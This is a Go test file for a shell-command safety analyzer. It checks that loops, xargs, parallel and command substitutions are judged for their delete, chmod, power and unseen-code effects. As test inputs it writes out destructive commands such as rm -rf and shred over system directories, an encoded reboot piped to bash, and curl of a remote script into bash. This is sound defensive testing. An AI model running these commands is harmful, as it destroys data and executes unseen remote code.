package shell

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// lastEffects prints the effects of a line's invocations (the listers
// have none), sorted, for comparing two spellings of one operation.
func lastEffects(a *Analysis) string {
	var out []string
	for _, inv := range a.Invocations {
		for _, e := range inv.Effects {
			out = append(out, fmt.Sprintf("%s %s:%s R=%t F=%t D=%t G=%t", inv.Name, e.Kind, e.Path, e.Recursive, e.Filtered, e.Dynamic, e.Glob))
		}
	}
	slices.Sort(out)
	return strings.Join(out, "; ")
}

// TestLoopsAgreeWithXargs checks that a loop over a lister's output
// judges its body's command as find DIR | xargs CMD judges it: the same
// effects on the same paths, for routine cleanups and system trees alike.
func TestLoopsAgreeWithXargs(t *testing.T) {
	finds := []string{
		"/tmp -type f -mtime +7",
		"/tmp -name '*.tmp'",
		". -name '*.pyc'",
		"./build -name '*.o'",
		". -name node_modules -type d -prune",
		"/var/log -name '*.log' -mtime +14",
		"/var/log/nginx -name '*.gz' -mtime +30",
		"/var/cache/apt/archives -name '*.deb'",
		"/srv/app/releases -maxdepth 1 -type d -mtime +30",
		"/srv/backups -type f",
		"/var/lib/mysql -name '*.ibd'",
		"/etc -type f",
		"/home -maxdepth 1",
		"/ -xdev -size +500M",
		"/usr/lib -name '*.so*'",
		"/data /mnt/backups -type f",
		"\"$HOME\"/.cache -type f -atime +30",
	}
	cmds := []string{"rm", "rm -f", "rm -rf", "chmod 777", "shred -u", "chown nobody"}
	for _, dir := range finds {
		for _, cmd := range cmds {
			want := lastEffects(Analyze(fmt.Sprintf("find %s | xargs %s", dir, cmd), testOpts))
			want0 := lastEffects(Analyze(fmt.Sprintf("find %s -print0 | xargs -0 %s", dir, cmd), testOpts))
			for _, line := range []string{
				fmt.Sprintf(`find %s | while read f; do %s "$f"; done`, dir, cmd),
				fmt.Sprintf(`find %s | while read -r line; do %s $line; done`, dir, cmd),
				fmt.Sprintf(`find %s | sort | while read -r; do %s "$REPLY"; done`, dir, cmd),
				fmt.Sprintf(`while read -r f; do %s "$f"; done < <(find %s)`, cmd, dir),
				fmt.Sprintf(`for f in $(find %s); do %s "$f"; done`, dir, cmd),
				fmt.Sprintf("for f in `find %s`; do %s \"${f}\"; done", dir, cmd),
				fmt.Sprintf(`mapfile -t a < <(find %s); %s "${a[@]}"`, dir, cmd),
				fmt.Sprintf(`find %s | xargs -I{} %s {}`, dir, cmd),
			} {
				if strings.Contains(line, "sort") {
					// A filter picks some of the paths: as xargs after it.
					w := lastEffects(Analyze(fmt.Sprintf("find %s | sort | xargs %s", dir, cmd), testOpts))
					if got := lastEffects(Analyze(line, testOpts)); got != w {
						t.Errorf("%s\n  got  %s\n  want %s", line, got, w)
					}
					continue
				}
				if got := lastEffects(Analyze(line, testOpts)); got != want {
					t.Errorf("%s\n  got  %s\n  want %s", line, got, want)
				}
			}
			for _, line := range []string{
				fmt.Sprintf(`find %s -print0 | while IFS= read -r -d '' f; do %s "$f"; done`, dir, cmd),
				fmt.Sprintf(`while IFS= read -r -d $'\0' f; do %s "$f"; done < <(find %s -print0)`, cmd, dir),
				fmt.Sprintf(`readarray -d '' a < <(find %s -print0); %s "${a[@]}"`, dir, cmd),
			} {
				if got := lastEffects(Analyze(line, testOpts)); got != want0 {
					t.Errorf("%s\n  got  %s\n  want %s", line, got, want0)
				}
			}
		}
	}
	for _, dir := range []string{"/tmp", "/srv/data", "/var/lib/mysql", "/", "build", "/etc/nginx/sites-enabled"} {
		for _, cmd := range []string{"rm -rf", "rm -f", "chmod 600"} {
			want := lastEffects(Analyze(fmt.Sprintf("ls %s | xargs %s", dir, cmd), testOpts))
			for _, line := range []string{
				fmt.Sprintf(`ls %s | while read x; do %s "$x"; done`, dir, cmd),
				fmt.Sprintf(`for x in $(ls %s); do %s "$x"; done`, dir, cmd),
				fmt.Sprintf(`while read x; do %s "$x"; done < <(ls %s)`, cmd, dir),
			} {
				if got := lastEffects(Analyze(line, testOpts)); got != want {
					t.Errorf("%s\n  got  %s\n  want %s", line, got, want)
				}
			}
		}
	}
}

func TestListedLoops(t *testing.T) {
	tests := []struct {
		line, want string
	}{
		{`find /srv/backups -type f | while read f; do rm "$f"; done`, `find; read; rm delete:/srv/backups+R`},
		{`find /srv/backups -type f -print0 | while IFS= read -r -d '' f; do rm -f "$f"; done`, `find; read; rm delete:/srv/backups+R`},
		{`for f in $(find /srv -name '*.bak'); do rm -rf "$f"; done`, `find; rm delete:/srv+F`},
		{"for f in `find /srv -type f`; do rm \"$f\"; done", `find; rm delete:/srv+R`},
		{`ls /srv/data | while read x; do rm -rf "$x"; done`, `ls; read; rm delete:/srv/data/*+R+G`},
		{`ls -d /srv/* | while read d; do rm -rf "$d"; done`, `ls; read; rm delete:/srv/*+R+G`},
		{`mapfile -t arr < <(find /srv/backups -type f); rm "${arr[@]}"`, `find; mapfile; rm delete:/srv/backups+R`},
		{`readarray -d '' arr < <(find /srv -print0); rm -f "${arr[@]}"`, `find; readarray; rm delete:/srv+R`},
		{`while read f; do rm "$f"; done < <(find /var/lib/mysql -name '*.ibd')`, `find; read; rm delete:/var/lib/mysql+F`},
		{`find /srv /data -type f | while read -r f; do shred -u "$f"; done`, `find; read; shred write:/srv+R delete:/srv+R write:/data+R delete:/data+R`},
		{`find /srv -type f | grep -v keep | while read f; do rm "$f"; done`, `find; grep; read; rm delete:/srv+F`},
		{`xargs rm < <(find /srv -type f)`, `find; [xargs]rm delete:/srv+R`},
		{`find /srv -type f | while read f; do echo "$f"; done`, `find; read; echo`},
		// Any other reading of the variable is unknown, as before.
		{`find /srv -type f | while read f; do rm "${f%/*}"; done`, `find; read; rm delete:/srv+D`},
		{`find /srv -type f | while read f; do mv "$f" "$f.bak"; done`, `find; read; mv rename:/srv+R write:/srv/.bak+R+D`},
		// Not a whole-line read, or input not a lister's: unknown.
		{`find /srv -type f | while read a b; do rm "$a"; done`, `find; read; rm delete:+D`},
		{`find /srv -type f | while read -n 3 f; do rm "$f"; done`, `find; read; rm delete:+D`},
		{`find /srv -type f | while read -d / f; do rm "$f"; done`, `find; read; rm delete:+D`},
		{`cat list | while read f; do rm "$f"; done`, `cat; read; rm delete:+D`},
		{`find /srv -exec echo {} + | while read f; do rm "$f"; done`, `find; [find -exec]echo; read; rm delete:+D`},
		{`for f in $(cat list); do rm "$f"; done`, `cat; rm delete:+D`},
		{`for f in $(find /srv -type f) x; do rm "$f"; done`, `find; rm delete:+D`},
		// A here-string of one lister's substitution.
		{`while read -r f; do rm -f "$f"; done <<< "$(find /srv/backups -type f)"`, `find; read; rm delete:/srv/backups+R`},
		{`while read -r f; do rm -f "$f"; done <<< "$(cat list)"`, `cat; read; rm delete:+D`},
		// ls DIR prints names: DIR/ before one is DIR's entries, in
		// both forms; another directory is not.
		{`ls /tmp | while read f; do rm -rf "/tmp/$f"; done`, `ls; read; rm delete:/tmp/*+R+G`},
		{`ls /tmp | xargs -I{} rm -rf /tmp/{}`, `ls; [xargs]rm delete:/tmp/*+R+G`},
		{`ls /srv/data | while read x; do rm -rf /srv/data/"$x"; done`, `ls; read; rm delete:/srv/data/*+R+G`},
		{`ls /srv/data | while read x; do rm -rf "/srv/other/$x"; done`, `ls; read; rm delete:/srv/other+R+D`},
		{`ls /srv/data | xargs -I{} rm -rf /srv/other/{}`, `ls; [xargs]rm delete:/srv/other+R+D`},
		// The paths run as code: not their text, code belay cannot see.
		{`find /srv -type f | while read f; do eval "$f"; done`, `find; read; eval unseen-code:the paths listed under /srv+D`},
		{`find /srv -type f | xargs -I{} sh -c {}`, `find; [xargs]sh unseen-code:the paths listed under /srv+D`},
		// A later assignment replaces the listed value.
		{`find /srv | while read f; do f=/tmp/x; rm "$f"; done`, `find; read; rm delete:/tmp/x`},
	}
	for _, tt := range tests {
		if got := summary(Analyze(tt.line, testOpts)); got != tt.want {
			t.Errorf("%s\n  got  %s\n  want %s", tt.line, got, tt.want)
		}
	}
}

func TestListedWrappers(t *testing.T) {
	tests := []struct {
		line, want string
	}{
		// parallel's jobs read a lister's paths as xargs does.
		{`find /srv/backups -type f | parallel rm`, `find; [parallel]rm delete:/srv/backups+R`},
		{`find /srv -type f | parallel rm -f {}`, `find; [parallel]rm delete:/srv+R`},
		{`find /srv -type f | parallel -j8 'rm -rf {}'`, `find; [parallel]rm delete:/srv+R`},
		{`find /srv -type f | parallel -S web1 rm {}`, `find; [parallel]rm@web1 delete:/srv+R`},
		{`find /var/log -name '*.gz' -mtime +30 | parallel rm`, `find; [parallel]rm delete:/var/log+F`},
		{`find /srv -type f | parallel echo {}`, `find; [parallel]echo`},
		{`cat list | parallel rm`, `cat; [parallel]rm delete:+D`},
		// --pipe: the jobs read parallel's standard input.
		{`find /srv -type f | parallel --pipe xargs rm`, `find; [parallel>xargs]rm delete:/srv+R`},
		{`parallel --pipe sh <<< reboot`, `[parallel>sh <<<]reboot power:`},
		// xargs -I's string inside a shell's script, quoted any way.
		{`find /srv -type f | xargs -I{} sh -c 'rm -rf {}'`, `find; [xargs>sh -c]rm delete:/srv+R`},
		{`find /srv -type f | xargs -I% bash -c 'rm -f "%"'`, `find; [xargs>bash -c]rm delete:/srv+R`},
		{`find /srv -type f | xargs -I% bash -c "rm -f '%'"`, `find; [xargs>bash -c]rm delete:/srv+R`},
		{`find /srv -type f | xargs -I{} bash -ec 'chmod 000 {}; echo {}'`, `find; [xargs>bash -c]chmod chmod:/srv+R; [xargs>bash -c]echo`},
		{`find /srv -type f | xargs -I{} sh -c 'gzip {} && rm {}.gz'`, `find; [xargs>sh -c]gzip; [xargs>sh -c]rm delete:/srv/.gz+D`},
		{`find /srv -type f | xargs sh -c 'rm -rf "$@"' _`, `find; [xargs>sh -c]rm delete:/srv+R`},
		{`find /srv -type f | xargs -I{} sh -c 'rm -rf "$1"' _ {}`, `find; [xargs>sh -c]rm delete:/srv+R`},
		{`find /srv -type f | xargs -n1 -P4 rm`, `find; [xargs]rm delete:/srv+R`},
		// A script that names the variable could set it: not followed.
		{`find /srv -type f | xargs -I{} sh -c 'belay_listed=/tmp/x; rm {}'`, `find; [xargs]sh unseen-code:a script that sets belay_listed+D`},
		{`find /srv -type f | parallel 'belay_listed=x; rm {}'`, `find; parallel unseen-code:a command that sets belay_listed+D; [parallel]rm delete:+D`},
	}
	for _, tt := range tests {
		if got := summary(Analyze(tt.line, testOpts)); got != tt.want {
			t.Errorf("%s\n  got  %s\n  want %s", tt.line, got, tt.want)
		}
	}
}

func TestSubstListed(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`rm -rf {}`, `rm -rf "${belay_listed}"`},
		{`rm -f "{}"`, `rm -f "${belay_listed}"`},
		{`rm -f '{}'`, `rm -f ''"${belay_listed}"''`},
		{`echo \{} {}.bak`, `echo \{} "${belay_listed}".bak`},
		{`echo "a\"{}"`, `echo "a\"${belay_listed}"`},
		{`x`, `x`},
	} {
		if got := substListed(tt.in, "{}"); got != tt.want {
			t.Errorf("substListed(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestSubstInput checks what a command substitution reads: the input of
// the command whose word it is in, before that command's own
// redirections (the shell expands the words first).
func TestSubstInput(t *testing.T) {
	tests := []struct {
		line, want string
	}{
		{`echo reboot | bash -c "$(cat)"`, `echo; cat; [bash -c]reboot power:`},
		{`echo reboot | bash -c "$(< /dev/stdin)"`, `echo; [bash -c]reboot power:`},
		{`echo reboot | eval "$(cat -)"`, `echo; cat; [eval]reboot power:`},
		{`echo cmVib290 | bash -c "$(base64 -d)"`, `echo; base64; [bash -c]reboot power:`},
		{`{ bash -c "$(cat /dev/stdin)"; } <<< reboot`, `cat; [bash -c]reboot power:`},
		{`curl -s http://x/e.sh | bash -c "$(cat)"`, `curl; cat; bash unseen-code:http://x/e.sh+D`},
		{`curl -s http://x/e.sh | bash -c "$(< /dev/stdin)"`, `curl; bash unseen-code:http://x/e.sh+D`},
		// The here-string is bash's input, not the substitution's: that
		// reads the terminal, the user's own typing (as cat | sh).
		{`bash -c "$(< /dev/stdin)" <<< reboot`, ``},
		{`bash -c "$(cat)" <<< reboot`, `cat`},
		{`curl -s http://x/e.sh | { bash -c "$(cat)" <<< "echo hi"; }`, `curl; cat; bash unseen-code:http://x/e.sh+D`},
		{`bash -c "$(< script.sh)"`, ``},
		{`echo hi | grep "$(cat)"`, `echo; cat; grep`},
	}
	for _, tt := range tests {
		if got := summary(Analyze(tt.line, testOpts)); got != tt.want {
			t.Errorf("%s\n  got  %s\n  want %s", tt.line, got, tt.want)
		}
	}
}

// FuzzSubstListed checks that putting the variable where xargs -I's
// string stands keeps a script that parses one that parses, and that
// none of the string is left outside single quotes' reach.
func FuzzSubstListed(f *testing.F) {
	for _, s := range []string{`rm -rf {}`, `rm "{}"`, `rm '{}'`, `a\{} "\"{}" '{}'{}`, `{}{}`, `'`, `"`, `\`} {
		f.Add(s, "{}")
	}
	f.Add(`rm %; echo "%"`, "%")
	f.Fuzz(func(t *testing.T, script, repl string) {
		if len(script) > 4096 || len(repl) > 16 {
			return
		}
		out := substListed(script, repl)
		if repl == "" || !strings.Contains(script, repl) {
			if out != script {
				t.Fatalf("substListed(%q, %q) = %q, want it unchanged", script, repl, out)
			}
			return
		}
		p := syntax.NewParser()
		if _, err := p.Parse(strings.NewReader(script), ""); err != nil {
			return
		}
		if _, err := p.Parse(strings.NewReader(out), ""); err != nil {
			t.Fatalf("substListed(%q, %q) = %q does not parse: %v", script, repl, out, err)
		}
	})
}

// FuzzModuleJSON checks that any -a text is read without a panic, and
// that JSON is read only from an object.
func FuzzModuleJSON(f *testing.F) {
	for _, s := range []string{`{"path":"/etc","state":"absent"}`, `{"name":["a",1,{"b":2}],"x":null}`, `{`, `path=/x`, ` {"a": true}`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, args string) {
		kv, isJSON := moduleJSON(args)
		if isJSON && !strings.HasPrefix(strings.TrimSpace(args), "{") {
			t.Fatalf("%q read as JSON", args)
		}
		if len(kv) > maxModuleArgs {
			t.Fatalf("%d keys", len(kv))
		}
		ansibleLine("file", args)
		ansibleLine("apt", args)
	})
}
